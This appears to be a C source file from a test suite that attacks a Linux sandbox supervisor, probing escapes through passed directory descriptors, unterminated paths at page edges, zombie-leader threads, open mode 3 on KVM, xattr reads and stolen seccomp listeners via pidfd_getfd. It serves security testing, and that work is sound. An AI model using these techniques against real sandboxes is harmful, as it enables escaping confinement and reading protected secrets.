/* SPDX-License-Identifier: GPL-2.0-or-later */
/*
 * Round 5: descriptors from elsewhere and paths at the edge of the
 * program's memory.
 *  - r5-send-fd runs OUTSIDE the sandbox (in a mount namespace of its own,
 *    where a refused directory is bind-mounted under an allowed name, or
 *    in ours): it hands an fd of a directory to whoever connects.
 *  - r5-recv-fd, in the sandbox, takes that fd and uses it as the dirfd
 *    of openat, linkat and renameat, or opens /proc/self/fd/N/NAME.
 *  - r5-page-path puts a path against the end of a page whose next page
 *    is unmapped (or PROT_NONE): no NUL the kernel can read, so the
 *    kernel's answer is EFAULT; the supervisor must not decide (or open)
 *    the text it could read.
 */
#include "config.h"

#include <errno.h>
#include <fcntl.h>
#include <pthread.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/xattr.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <unistd.h>
#include <sys/wait.h>

#include "attack.h"

/* linux/kvm.h: _IO(KVMIO, 0x00) and _IO(KVMIO, 0x01), KVMIO 0xAE. */
#define R5_KVM_GET_API_VERSION 0xAE00
#define R5_KVM_CREATE_VM       0xAE01

static socklen_t r5_unix_addr(const char *path, struct sockaddr_un *sun)
{
	memset(sun, 0, sizeof(*sun));
	sun->sun_family = AF_UNIX;
	snprintf(sun->sun_path, sizeof(sun->sun_path), "%s", path);
	return (socklen_t)sizeof(*sun);
}

/* send-fd SOCK PATH [opath]: serves one connection an fd of PATH, then exits. */
static int cmd_send_fd(int argc, char **argv)
{
	struct sockaddr_un sun;
	char data = 'f', cbuf[CMSG_SPACE(sizeof(int))] = { 0 };
	struct iovec iov = { &data, 1 };
	struct msghdr m = { .msg_iov = &iov, .msg_iovlen = 1, .msg_control = cbuf,
			    .msg_controllen = sizeof(cbuf) };
	struct cmsghdr *c = CMSG_FIRSTHDR(&m);
	int ls, conn, fd;

	if (argc != 2 && argc != 3)
		return 2;
	fd = open(argv[1], (argc == 3 ? O_PATH : O_RDONLY) | O_DIRECTORY | O_CLOEXEC);
	if (fd < 0)
		return setup_failed("open", errno);
	ls = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
	unlink(argv[0]);
	if (ls < 0 || bind(ls, (struct sockaddr *)&sun, r5_unix_addr(argv[0], &sun)) < 0 ||
	    listen(ls, 1) < 0)
		return setup_failed("listen", errno);
	note("ready");
	conn = accept4(ls, NULL, NULL, SOCK_CLOEXEC);
	if (conn < 0)
		return setup_failed("accept", errno);
	c->cmsg_level = SOL_SOCKET;
	c->cmsg_type = SCM_RIGHTS;
	c->cmsg_len = CMSG_LEN(sizeof(int));
	memcpy(CMSG_DATA(c), &fd, sizeof(int));
	if (sendmsg(conn, &m, 0) != 1)
		return setup_failed("sendmsg", errno);
	result("DONE sent");
	return 0;
}

static int r5_recv(const char *path)
{
	struct sockaddr_un sun;
	char data, cbuf[CMSG_SPACE(sizeof(int))];
	struct iovec iov = { &data, 1 };
	struct msghdr m = { .msg_iov = &iov, .msg_iovlen = 1, .msg_control = cbuf,
			    .msg_controllen = sizeof(cbuf) };
	struct cmsghdr *c;
	int s = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0), fd = -1;

	if (s < 0 || connect(s, (struct sockaddr *)&sun, r5_unix_addr(path, &sun)) < 0)
		return -errno;
	if (recvmsg(s, &m, MSG_CMSG_CLOEXEC) != 1)
		return -errno;
	c = CMSG_FIRSTHDR(&m);
	if (c && c->cmsg_type == SCM_RIGHTS)
		memcpy(&fd, CMSG_DATA(c), sizeof(int));
	close(s);
	return fd >= 0 ? fd : -EBADMSG;
}

/*
 * recv-fd SOCK HOW NAME [DEST]: the fd received from SOCK, then HOW:
 *   openat   openat(fd, NAME) read (LEAK)
 *   procfd   open /proc/self/fd/N/NAME read (LEAK)
 *   linkat   linkat(fd, NAME, AT_FDCWD, DEST), then DEST read (LEAK)
 *   renameat renameat(fd, NAME, AT_FDCWD, DEST), then DEST read (LEAK)
 */
static int cmd_recv_fd(int argc, char **argv)
{
	char path[4200];
	int fd, r = 0;

	if (argc != 3 && argc != 4)
		return 2;
	fd = r5_recv(argv[0]);
	if (fd < 0)
		return setup_failed("recv", -fd);
	note("received fd %d", fd);
	if (strcmp(argv[1], "openat") == 0)
		return leak_path(fd, argv[2]);
	if (strcmp(argv[1], "procfd") == 0) {
		snprintf(path, sizeof(path), "/proc/self/fd/%d/%s", fd, argv[2]);
		return leak_path(AT_FDCWD, path);
	}
	if (argc != 4)
		return 2;
	if (strcmp(argv[1], "linkat") == 0)
		r = linkat(fd, argv[2], AT_FDCWD, argv[3], 0);
	else if (strcmp(argv[1], "renameat") == 0)
		r = renameat(fd, argv[2], AT_FDCWD, argv[3]);
	else
		return 2;
	if (r < 0)
		return blocked(errno);
	note("%s done", argv[1]);
	return leak_path(AT_FDCWD, argv[3]);
}

/* fd-open FD NAME: openat of a descriptor the program inherited. */
static int cmd_fd_open(int argc, char **argv)
{
	if (argc != 2)
		return 2;
	return leak_path((int)parse_long(argv[0]), argv[1]);
}

/*
 * page-path PATH unmapped|protnone: PATH (no NUL) ends where a page ends;
 * the next page is unmapped or PROT_NONE. open() of it: the kernel reads
 * past the page for the NUL and answers EFAULT. LEAK means the supervisor
 * opened the text it could read.
 */
static int cmd_page_path(int argc, char **argv)
{
	long page = sysconf(_SC_PAGESIZE);
	size_t len;
	char *map, *p;
	int fd;

	if (argc != 2 || (len = strlen(argv[0])) >= (size_t)page)
		return 2;
	map = mmap(NULL, (size_t)page * 2, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1,
		   0);
	if (map == MAP_FAILED)
		return setup_failed("mmap", errno);
	p = map + page - len;
	memcpy(p, argv[0], len);
	if (strcmp(argv[1], "unmapped") == 0 ? munmap(map + page, (size_t)page) < 0
					      : mprotect(map + page, (size_t)page, PROT_NONE) < 0)
		return setup_failed("second page", errno);
	fd = (int)syscall(SYS_openat, AT_FDCWD, p, O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return blocked(errno);
	return leak_fd(fd);
}


struct r5_orphan {
	char **argv;
	int argc;
};

/* The thread left when the leader is gone: waits for it to be a zombie, then acts. */
static void *r5_orphan_thread(void *arg)
{
	struct r5_orphan *o = arg;
	struct sockaddr_storage ss;
	socklen_t len;
	int s;

	for (int i = 0; i < 200 && proc_state(getpid()) != 'Z'; i++)
		pause_ms(10);
	note("leader state %c", proc_state(getpid()));
	if (strcmp(o->argv[0], "open") == 0 && o->argc == 2) {
		leak_path(AT_FDCWD, o->argv[1]);
		exit(0);
	}
	if (strcmp(o->argv[0], "connect") != 0 || o->argc != 3 ||
	    !(len = attack_addr(o->argv[1], o->argv[2], &ss)))
		exit(setup_failed("usage", EINVAL));
	s = socket(ss.ss_family, SOCK_STREAM | SOCK_CLOEXEC, 0);
	if (s < 0)
		exit(setup_failed("socket", errno));
	if (connect(s, (struct sockaddr *)&ss, len) < 0)
		exit(blocked(errno));
	result("DONE connected");
	exit(0);
}

/*
 * leader-exit open PATH | connect ADDR PORT: the leader thread exits
 * (SYS_exit: the process lives on in its other thread), which then opens
 * PATH or connects. Calls of a process whose leader is a zombie.
 */
static int cmd_leader_exit(int argc, char **argv)
{
	static struct r5_orphan o;
	pthread_t th;

	if (argc < 2)
		return 2;
	o = (struct r5_orphan){ argv, argc };
	if (pthread_create(&th, NULL, r5_orphan_thread, &o) != 0)
		return setup_failed("pthread_create", EAGAIN);
	syscall(SYS_exit, 0);
	return 0;
}

/*
 * inflight FIFO READY PATH: creates READY, opens FIFO for reading (the
 * supervisor's open waits for a writer that never comes: the test kills
 * the supervisor meanwhile), then opens PATH. Two result lines.
 */
static int cmd_inflight(int argc, char **argv)
{
	int fd;

	if (argc != 3)
		return 2;
	fd = open(argv[1], O_WRONLY | O_CREAT | O_CLOEXEC, 0644);
	if (fd < 0)
		return setup_failed("ready", errno);
	close(fd);
	fd = open(argv[0], O_RDONLY | O_CLOEXEC);
	if (fd >= 0) {
		result("OPENED the FIFO");
		close(fd);
	} else {
		blocked(errno);
	}
	return leak_path(AT_FDCWD, argv[2]);
}

/*
 * open-mode3 PATH [kvm]: open(PATH, 3), the access mode that opens for
 * ioctls alone once the kernel checked read and write permission. OPENED
 * when it opened; with kvm, KVM_CREATE_VM on it: VM when a VM was made.
 */
static int cmd_open_mode3(int argc, char **argv)
{
	int fd, vm;

	if (argc != 1 && argc != 2)
		return 2;
	fd = open(argv[0], O_ACCMODE | O_CLOEXEC);
	if (fd < 0)
		return blocked(errno);
	if (argc == 1) {
		result("OPENED %s with access mode 3", argv[0]);
		return 0;
	}
	note("KVM_GET_API_VERSION: %d", ioctl(fd, R5_KVM_GET_API_VERSION, 0));
	vm = ioctl(fd, R5_KVM_CREATE_VM, 0);
	if (vm < 0) {
		result("OPENED %s with access mode 3, KVM_CREATE_VM %s", argv[0], errname(errno));
		return 0;
	}
	result("VM made (fd %d) through %s opened with access mode 3", vm, argv[0]);
	return 0;
}

/* linux/xattr.h (6.13), which Debian 12's headers lack. */
struct r5_xattr_args {
	uint64_t value;
	uint32_t size;
	uint32_t flags;
};
#define R5_SYS_getxattrat  464
#define R5_SYS_listxattrat 465
#define R5_SYS_file_getattr 468

/*
 * getxattr HOW PATH NAME: the value of the extended attribute NAME of
 * PATH (LEAK), by getxattr|lgetxattr|getxattrat; HOW list|llist|listxattrat:
 * the names. A read of the file's own data that no open makes. HOW set
 * PATH NAME VALUE: sets it (the test's setup, outside the sandbox).
 */
static int cmd_getxattr(int argc, char **argv)
{
	static char buf[65536];
	struct r5_xattr_args a = { .value = (uintptr_t)buf, .size = sizeof(buf) };
	const char *how;
	ssize_t n;

	if (argc == 4 && strcmp(argv[0], "set") == 0) {
		/* (outside) the test's own setup: NAME=VALUE on PATH. */
		if (setxattr(argv[1], argv[2], argv[3], strlen(argv[3]), 0) < 0)
			return setup_failed("setxattr", errno);
		result("DONE set");
		return 0;
	}
	if (argc != 3)
		return 2;
	how = argv[0];
	if (strcmp(how, "getxattr") == 0)
		n = getxattr(argv[1], argv[2], buf, sizeof(buf));
	else if (strcmp(how, "lgetxattr") == 0)
		n = lgetxattr(argv[1], argv[2], buf, sizeof(buf));
	else if (strcmp(how, "getxattrat") == 0)
		n = syscall(R5_SYS_getxattrat, AT_FDCWD, argv[1], 0, argv[2], &a, sizeof(a));
	else if (strcmp(how, "list") == 0)
		n = listxattr(argv[1], buf, sizeof(buf));
	else if (strcmp(how, "llist") == 0)
		n = llistxattr(argv[1], buf, sizeof(buf));
	else if (strcmp(how, "listxattrat") == 0)
		n = syscall(R5_SYS_listxattrat, AT_FDCWD, argv[1], 0, buf, sizeof(buf));
	else if (strcmp(how, "file_getattr") == 0) {
		/* struct file_attr (6.17): fa_xflags first; NAME unused. 24: FILE_ATTR_SIZE_VER0. */
		n = syscall(R5_SYS_file_getattr, AT_FDCWD, argv[1], buf, 24, 0);
		if (n == 0) {
			uint32_t xflags;

			memcpy(&xflags, buf, sizeof(xflags));
			result("LEAK 24 fa_xflags=0x%x (the file's inode flags)", xflags);
			return 0;
		}
	}
	else
		return 2;
	if (n < 0)
		return blocked(errno);
	for (ssize_t i = 0; i < n; i++)
		if (buf[i] == '\0')
			buf[i] = ' ';
	result("LEAK %zd %.*s", n, (int)n, buf);
	return 0;
}

/* Linux 6.5 (Debian 12's headers lack them). */
#define R5_SO_PASSPIDFD 76
#define R5_SCM_PIDFD    0x04
#define R5_SO_PEERPIDFD 77

struct r5_sender {
	int sock;
	size_t len;
	ssize_t sent;
	int err;
};

/* The sendmsg the supervisor performs: its helper blocks once the buffer is full. */
static void *r5_send_thread(void *arg)
{
	struct r5_sender *s = arg;
	char *data = calloc(1, s->len);
	struct iovec iov = { data, s->len };
	struct msghdr m = { .msg_iov = &iov, .msg_iovlen = 1 };

	s->sent = data ? sendmsg(s->sock, &m, 0) : -1;
	s->err = errno;
	free(data);
	return NULL;
}

/* SIGALRM: only to interrupt a RECV (no SA_RESTART). */
static void r5_wake(int sig)
{
	(void)sig;
}

/* One small read of sock: the pidfd of the task that sent it (SCM_PIDFD), or -errno. */
static int r5_sender_pidfd(int sock)
{
	char data[16], cbuf[CMSG_SPACE(sizeof(int)) * 4];
	struct iovec iov = { data, sizeof(data) };
	struct msghdr m = { .msg_iov = &iov, .msg_iovlen = 1, .msg_control = cbuf,
			    .msg_controllen = sizeof(cbuf) };
	int pidfd = -EBADMSG;

	if (recvmsg(sock, &m, MSG_CMSG_CLOEXEC) <= 0)
		return -errno;
	for (struct cmsghdr *c = CMSG_FIRSTHDR(&m); c; c = CMSG_NXTHDR(&m, c))
		if (c->cmsg_level == SOL_SOCKET && c->cmsg_type == R5_SCM_PIDFD)
			memcpy(&pidfd, CMSG_DATA(c), sizeof(int));
	return pidfd;
}


/*
 * Our child's open of secret, answered CONTINUE by us on the stolen
 * listeners, as often as the supervisor wins the race (200 tries at most).
 * The child's result line in buf.
 */
static void r5_race_open(const int *fds, int n, const char *secret, char *buf, size_t size,
			 int *answered)
{
	for (int tries = 0; tries < 200 && !strstr(buf, "LEAK"); tries++) {
		int out;
		pid_t child = spawn_reader(secret, &out);
		ssize_t len;

		if (child < 0)
			return;
		/*
		 * The supervisor races us for each notification: a RECV that
		 * lost it would wait for the next one, so each is bounded.
		 */
		for (int i = 0; i < 300 && waitpid(child, NULL, WNOHANG) == 0; i++) {
			ualarm(50000, 0);
			answer_all(fds, n, 10, -1, answered);
			ualarm(0, 0);
		}
		if (waitpid(child, NULL, WNOHANG) == 0) {
			note("try %d: the reader is still waiting; killed", tries);
			kill(child, SIGKILL);
			waitpid(child, NULL, 0);
		}
		len = read(out, buf, size - 1);
		buf[len > 0 ? len : 0] = '\0';
		buf[strcspn(buf, "\n")] = '\0';
		close(out);
	}
}

/*
 * peer-pidfd SOCK SECRET: connect to SOCK (a unix socket a process outside
 * the sandbox listens on: unotifyd's, for a program of run --daemon),
 * SO_PEERPIDFD: a pidfd of that process, with which pidfd_getfd takes its
 * listeners (STOLE), then our child's refused open is answered by us.
 */
static int cmd_peer_pidfd(int argc, char **argv)
{
	struct sockaddr_un sun;
	socklen_t len = sizeof(int);
	int s, pidfd = -1, fds[256], n, answered = 0;
	char buf[512] = "";

	if (argc != 2)
		return 2;
	sigaction(SIGALRM, &(struct sigaction){ .sa_handler = r5_wake }, NULL);
	s = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
	if (s < 0 || connect(s, (struct sockaddr *)&sun, r5_unix_addr(argv[0], &sun)) < 0)
		return setup_failed("connect", errno);
	if (getsockopt(s, SOL_SOCKET, R5_SO_PEERPIDFD, &pidfd, &len) < 0)
		return blocked(errno);
	n = take_listeners_pidfd(pidfd, fds, 256);
	if (n < 0) {
		note("pidfd %d of the peer: pidfd_getfd refused", pidfd);
		return blocked(-n);
	}
	result("STOLE %d listener(s) from the socket's peer", n);
	r5_race_open(fds, n, argv[1], buf, sizeof(buf), &answered);
	note("answered %d notification(s) ourselves", answered);
	result("%s", *buf ? buf : "BLOCKED child-silent");
	return 0;
}

/*
 * helper-pidfd SECRET: a sendmsg on one end of a socket pair, which the
 * supervisor performs in a helper process (a CLONE_VM child holding a
 * copy of the supervisor's descriptors) that blocks once the buffer is
 * full; the other end, with SO_PASSPIDFD, reads a few bytes: the kernel
 * hands over a pidfd of the sender, the helper, outside our pid namespace.
 * With it, pidfd_getfd takes the supervisor's listener (STOLE), and our
 * child's refused open of SECRET is answered CONTINUE by us (LEAK).
 */
static int cmd_helper_pidfd(int argc, char **argv)
{
	int sv[2], one = 1, small = 4096, fds[64], n, pidfd, answered = 0;
	struct r5_sender s = { .len = 4 << 20 };
	char buf[512] = "";
	pthread_t th;

	if (argc != 1)
		return 2;
	sigaction(SIGALRM, &(struct sigaction){ .sa_handler = r5_wake }, NULL);
	if (socketpair(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0, sv) < 0 ||
	    setsockopt(sv[0], SOL_SOCKET, R5_SO_PASSPIDFD, &one, sizeof(one)) < 0 ||
	    setsockopt(sv[1], SOL_SOCKET, SO_SNDBUF, &small, sizeof(small)) < 0)
		return setup_failed("socketpair", errno);
	s.sock = sv[1];
	if (pthread_create(&th, NULL, r5_send_thread, &s) != 0)
		return setup_failed("pthread_create", EAGAIN);
	pause_ms(500);
	pidfd = r5_sender_pidfd(sv[0]);
	if (pidfd < 0)
		return setup_failed("scm-pidfd", -pidfd);
	n = take_listeners_pidfd(pidfd, fds, 64);
	if (n < 0) {
		note("pidfd %d of the sender: pidfd_getfd refused", pidfd);
		return blocked(-n);
	}
	result("STOLE %d listener(s) from the supervisor's helper", n);
	r5_race_open(fds, n, argv[0], buf, sizeof(buf), &answered);
	note("answered %d notification(s) ourselves", answered);
	result("%s", *buf ? buf : "BLOCKED child-silent");
	/* Let the helper finish: read what it sends. */
	fcntl(sv[0], F_SETFL, O_NONBLOCK);
	for (int i = 0; i < 2000 && read(sv[0], buf, sizeof(buf)) != 0; i++)
		pause_ms(1);
	return 0;
}

/*
 * fd-times PATH: PATH opened read-only (a read the policy allows), then its
 * times set through the descriptor with no path at all: utimensat(fd, NULL),
 * futimesat(fd, NULL), utimensat(fd, "", AT_EMPTY_PATH). CHANGED when one
 * of them did.
 */
static int cmd_fd_times(int argc, char **argv)
{
	struct timespec ts[2] = { { 123456789, 0 }, { 123456789, 0 } };
	int fd, err = 0, changed = 0;

	if (argc != 1)
		return 2;
	fd = open(argv[0], O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return setup_failed("open", errno);
	if (syscall(SYS_utimensat, fd, NULL, ts, 0) == 0 && ++changed)
		result("CHANGED by utimensat(fd, NULL)");
	else
		err = errno;
	if (syscall(SYS_futimesat, fd, NULL, NULL) == 0 && ++changed)
		result("CHANGED by futimesat(fd, NULL)");
	if (syscall(SYS_utimensat, fd, "", ts, AT_EMPTY_PATH) == 0 && ++changed)
		result("CHANGED by utimensat(fd, \"\", AT_EMPTY_PATH)");
	return changed ? 0 : blocked(err);
}

/*
 * pidfd_getfd of our own pidfd: the step every pidfd route to a
 * supervisor's listener needs, tried where no pidfd of another process is
 * needed to see whether the kernel layer refuses it.
 */
static int cmd_getfd_self(int argc, char **argv)
{
	int pidfd, fd;

	(void)argc;
	(void)argv;
	pidfd = (int)syscall(SYS_pidfd_open, getpid(), 0);
	if (pidfd < 0)
		return setup_failed("pidfd_open", errno);
	fd = (int)syscall(SYS_pidfd_getfd, pidfd, 0, 0);
	if (fd < 0)
		return blocked(errno);
	result("TOOK fd %d of our own table with pidfd_getfd", fd);
	return 0;
}

const struct attack_cmd attack_r5_cmds[] = {
	{ "r5-send-fd", "SOCK DIR [opath]     (outside) hand an fd of DIR to one client", cmd_send_fd },
	{ "r5-recv-fd", "SOCK HOW NAME [DEST] use a received dirfd: openat|procfd|linkat|renameat",
	  cmd_recv_fd },
	{ "r5-fd-open", "FD NAME              openat an inherited descriptor", cmd_fd_open },
	{ "r5-fd-times", "PATH                set PATH's times by its descriptor, no path", cmd_fd_times },
	{ "r5-page-path", "PATH unmapped|protnone  open a path with no NUL before a page end",
	  cmd_page_path },
	{ "r5-leader-exit", "open PATH|connect ADDR PORT  the leader exits, another thread acts",
	  cmd_leader_exit },
	{ "r5-inflight", "FIFO READY PATH   open FIFO (the supervisor dies meanwhile), then PATH",
	  cmd_inflight },
	{ "r5-open-mode3", "PATH [kvm]       open(PATH, 3); KVM_CREATE_VM on it", cmd_open_mode3 },
	{ "r5-getxattr", "HOW PATH NAME [V] getxattr|lgetxattr|getxattrat|list|llist|listxattrat|set",
	  cmd_getxattr },
	{ "r5-getfd-self", "                 pidfd_getfd of our own pidfd", cmd_getfd_self },
	{ "r5-helper-pidfd", "SECRET       SCM_PIDFD of the supervisor's send helper: its listener",
	  cmd_helper_pidfd },
	{ "r5-peer-pidfd", "SOCK SECRET     SO_PEERPIDFD of a process outside: its listeners",
	  cmd_peer_pidfd },
	{ 0 },
};
